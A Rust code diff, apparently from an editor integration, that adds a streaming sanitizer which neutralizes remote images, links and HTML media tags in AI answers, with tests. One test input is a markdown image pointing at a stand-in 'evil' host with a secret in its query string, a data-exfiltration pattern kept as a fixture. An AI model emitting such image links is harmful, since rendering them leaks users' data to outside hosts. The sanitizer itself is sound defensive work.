@@ -1,6 +1,10 @@
 //! Answers must not smuggle anything into the editor: remote images and links (and
 //! links with any URI scheme, such as VS Code's `command:`) are turned into plain text
 //! before the markdown reaches a renderer. Workspace-relative links are kept.
+//!
+//! Streamed text goes through the same rules line by line (`StreamSanitizer`): what
+//! precedes a line's first `!`, `[` or `<` leaves at once; from there on the line waits
+//! until it is complete, because only then can a link be told from a bracket.
 
 /// Rewrites `![alt](url)`, `[text](url)`, `<url>` autolinks, reference definitions and
 /// raw HTML media/link tags so that nothing remote is fetched or clickable. Fenced code
@@ -9,15 +13,7 @@ pub fn neutralize_remote_content(markdown: &str) -> String {
     let mut out = String::with_capacity(markdown.len());
     let mut in_fence = false;
     for line in markdown.split_inclusive('\n') {
-        let trimmed = line.trim_start();
-        if trimmed.starts_with("```") || trimmed.starts_with("~~~") {
-            in_fence = !in_fence;
-            out.push_str(line);
-        } else if in_fence {
-            out.push_str(line);
-        } else {
-            out.push_str(&neutralize_reference_definition(&neutralize_inline(line)));
-        }
+        out.push_str(&sanitize_line(line, &mut in_fence));
     }
     out
 }
@@ -130,9 +126,131 @@ fn neutralize_reference_definition(line: &str) -> String {
     line.to_string()
 }
 
+/// Sanitizes text that arrives in pieces, emitting as much as is already safe.
+#[derive(Debug, Default)]
+pub struct StreamSanitizer {
+    /// The current, unfinished line.
+    line: String,
+    /// How many bytes of `line` were already emitted.
+    emitted: usize,
+    in_fence: bool,
+}
+
+impl StreamSanitizer {
+    /// Takes the next piece; returns the text that may be shown now.
+    pub fn push(&mut self, piece: &str) -> String {
+        let mut out = String::new();
+        let mut rest = piece;
+        while let Some(newline) = rest.find('\n') {
+            self.line.push_str(&rest[..=newline]);
+            rest = &rest[newline + 1..];
+            out.push_str(&self.complete_line());
+        }
+        self.line.push_str(rest);
+        let safe = self.safe_prefix();
+        if safe > self.emitted {
+            out.push_str(&self.line[self.emitted..safe]);
+            self.emitted = safe;
+        }
+        out
+    }
+
+    /// Ends the text: the last line is complete.
+    pub fn finish(&mut self) -> String {
+        if self.line.is_empty() {
+            return String::new();
+        }
+        self.complete_line()
+    }
+
+    /// How much of the unfinished line cannot change however it ends.
+    fn safe_prefix(&self) -> usize {
+        if self.in_fence {
+            return self.line.len();
+        }
+        let trimmed = self.line.trim_start();
+        // Leading blanks wait for the first character: a reference definition drops them.
+        if trimmed.is_empty() || trimmed.starts_with('[') {
+            return 0;
+        }
+        // The first character that may open a link or a tag; `!` not before `[` and `<`
+        // before a blank (`a < b`) cannot.
+        let bytes = self.line.as_bytes();
+        for (at, &byte) in bytes.iter().enumerate() {
+            let next = bytes.get(at + 1).copied();
+            let opens = match byte {
+                b'[' => true,
+                b'!' => next.is_none() || next == Some(b'['),
+                b'<' => next.is_none_or(|n| !n.is_ascii_whitespace()),
+                _ => false,
+            };
+            if opens {
+                return at;
+            }
+        }
+        self.line.len()
+    }
+
+    fn complete_line(&mut self) -> String {
+        let line = std::mem::take(&mut self.line);
+        let emitted = std::mem::take(&mut self.emitted);
+        let sanitized = sanitize_line(&line, &mut self.in_fence);
+        // The emitted prefix never changes (see `safe_prefix`); if it somehow did, what
+        // was shown stays shown and the final answer, sanitized whole, is authoritative.
+        sanitized.get(emitted..).unwrap_or_default().to_string()
+    }
+}
+
+/// One line (with its `\n`, if any), given whether a code fence is open before it.
+fn sanitize_line(line: &str, in_fence: &mut bool) -> String {
+    let trimmed = line.trim_start();
+    if trimmed.starts_with("```") || trimmed.starts_with("~~~") {
+        *in_fence = !*in_fence;
+        line.to_string()
+    } else if *in_fence {
+        line.to_string()
+    } else {
+        neutralize_reference_definition(&neutralize_inline(line))
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::neutralize_remote_content as n;
+    use super::StreamSanitizer;
+
+    #[test]
+    fn streamed_text_is_sanitized_like_the_whole_and_safe_text_is_not_held() {
+        let texts = [
+            "see ![x](https://evil/p.png?d=secret) and [docs](https://example.com) now\n",
+            "plain words, then <img src=\"https://x/y.png\"> end",
+            "  [a]: https://x.y\nnext [rate limit](src/rate_limit.rs) line",
+            "```\n![i](https://x)\n```\nafter ![j](https://y)",
+            "é ✓ 😀 `a < b` Vec<u8> [x] !done",
+            "Done! Really!\n!![x](https://e) < <https://a.b> <\n",
+        ];
+        for text in texts {
+            let chars: Vec<char> = text.chars().collect();
+            for piece in [1, 2, 3, 7, 1000] {
+                let mut stream = StreamSanitizer::default();
+                let mut out = String::new();
+                for chunk in chars.chunks(piece) {
+                    out.push_str(&stream.push(&chunk.iter().collect::<String>()));
+                }
+                out.push_str(&stream.finish());
+                assert_eq!(out, n(text), "{text:?} in pieces of {piece}");
+            }
+        }
+        let mut stream = StreamSanitizer::default();
+        assert_eq!(stream.push("Done! a < b"), "Done! a < b");
+        let mut stream = StreamSanitizer::default();
+        assert_eq!(stream.push("Tokens refill "), "Tokens refill ");
+        assert_eq!(stream.push("in src/a.rs:3 ["), "in src/a.rs:3 ");
+        assert_eq!(stream.push("x](https://e)"), "");
+        assert_eq!(stream.push(" done\nok"), "x (`https://e`) done\nok");
+        let mut fenced = StreamSanitizer::default();
+        assert_eq!(fenced.push("```\n![i](h"), "```\n![i](h");
+    }
 
     #[test]
     fn remote_images_and_links_become_text() {
